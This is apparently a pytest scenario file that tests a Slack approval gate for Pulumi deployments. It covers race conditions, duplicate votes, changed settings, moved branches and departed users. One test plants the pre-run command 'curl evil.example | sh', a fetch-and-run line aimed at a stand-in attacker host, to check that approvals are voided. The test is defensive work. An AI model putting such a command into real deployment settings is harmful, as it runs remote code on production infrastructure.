"""What is approved is what runs, and once: races, settings and branches that change in between, people who leave."""

from __future__ import annotations

import asyncio

import pytest

from tests.scenarios.attacks.attacker import SOURCE, Attacker, asked, attack, ran, value_of
from tests.scenarios.scene import Json, Scene

pytestmark = [pytest.mark.scenario, pytest.mark.asyncio(loop_scope="module")]

APPROVE = "qd:approve"
TEAM_RULE = "two of site reliability"


async def approve(scene: Scene, by: str, card: Json, counted: str) -> None:
    """A vote as it should be."""
    async with attack(scene, by, answer=counted, outcome="approved"):
        await scene.slack.press(by, "prod", card, APPROVE)


async def test_fifty_clicks_at_once_run_it_once(scene: Scene) -> None:
    card = await asked(scene, "race/prod")
    value, people = value_of(card, APPROVE), ("ben", "cleo", "dev")
    attackers = [await Attacker(scene, f"U0{name.upper()}").begin() for name in people]
    clicks = [attackers[number % 3].press(card, f"{APPROVE}:{number}", value) for number in range(50)]
    await asyncio.gather(*clicks)
    await scene.card("prod", "race/prod", "succeeded")
    assert await ran(scene, "race/prod") == 1
    outcomes = [entry.outcome for entry in await attackers[0].left() if entry.verb == "approve"]
    assert (outcomes.count("approved"), outcomes.count("refused")) == (1, 49)


async def test_fifty_clicks_of_one_person_are_one_vote(scene: Scene) -> None:
    card = await asked(scene, "team/race")
    value = value_of(card, APPROVE)
    async with attack(scene, "ben", answer="1 of 2", outcome="approved", rule=TEAM_RULE) as ben:
        await asyncio.gather(*(ben.press(card, f"{APPROVE}:{number}", value) for number in range(50)))
        await scene.card("prod", "team/race", "1 of 2 so far")
    assert await ran(scene, "team/race") == 0
    outcomes = [entry.outcome for entry in await ben.left()]
    assert (outcomes.count("approved"), outcomes.count("refused")) == (1, 49)


async def test_settings_changed_between_the_votes_void_them_and_say_so(scene: Scene) -> None:
    """What ben approved is not what would run: he hears of it, and dev's vote, cast too late to know, does not start it."""
    card = await asked(scene, "team/changed")
    await approve(scene, "ben", card, "1 of 2")
    evil = {**SOURCE, "operationContext": {"preRunCommands": ["curl evil.example | sh"]}}
    await scene.pulumi.put_stack("team/changed", "quick-success", settings=evil)
    async with attack(
        scene, "dev", answer=("was not counted", "settings changed"), outcome="void", rule=TEAM_RULE
    ):
        await scene.slack.press("dev", "prod", card, APPROVE)
    await scene.whisper("ben", "prod", "no longer counts", "settings changed")
    again = await scene.card("prod", "team/changed", "The votes began anew")
    assert "so far" not in again["text"]
    assert await ran(scene, "team/changed") == 0
    await asyncio.sleep(10.1)  # a second press of the same button within ten seconds is a double click
    await approve(scene, "ben", again, "1 of 2")
    await scene.slack.press("dev", "prod", again, APPROVE)
    await scene.card("prod", "team/changed", "succeeded")
    assert await ran(scene, "team/changed") == 1


async def test_a_branch_that_moved_after_the_preview_runs_nothing_new(scene: Scene) -> None:
    """What was previewed is pinned: a push in between changes nothing of what runs."""
    card = await asked(scene, "moved/one", text="deploy --branch main")
    seen = next(one for one in await scene.pulumi.deployments("moved/one") if one["operation"] == "preview")
    await scene.pulumi.start("moved/one", initiator="github", operation="preview")
    async with attack(scene, "ben", answer="approv", outcome="approved", rule="after a preview", runs=1):
        await scene.slack.press("ben", "prod", card, APPROVE)
        await scene.card("prod", "moved/one", "deploy succeeded")
    runs = await scene.pulumi.deployments("moved/one")
    assert [one["commit"] for one in runs if one["operation"] == "update"] == [seen["commit"]]
    assert {one["commit"] for one in runs} - {seen["commit"]}


async def test_the_vote_of_somebody_who_left_counts_no_more(scene: Scene) -> None:
    card = await asked(scene, "team/gone")
    await approve(scene, "ben", card, "1 of 2")
    await scene.slack.account("ben", active=False)
    await asyncio.sleep(10.5)  # what is known of a person is ten seconds old at most
    await approve(scene, "dev", card, "1 of 2 approvals so far")
    assert await ran(scene, "team/gone") == 0
    stands = await scene.card("prod", "team/gone", "waiting for approval")
    assert "<@U0DEV>" in stands["text"].partition("so far")[2]
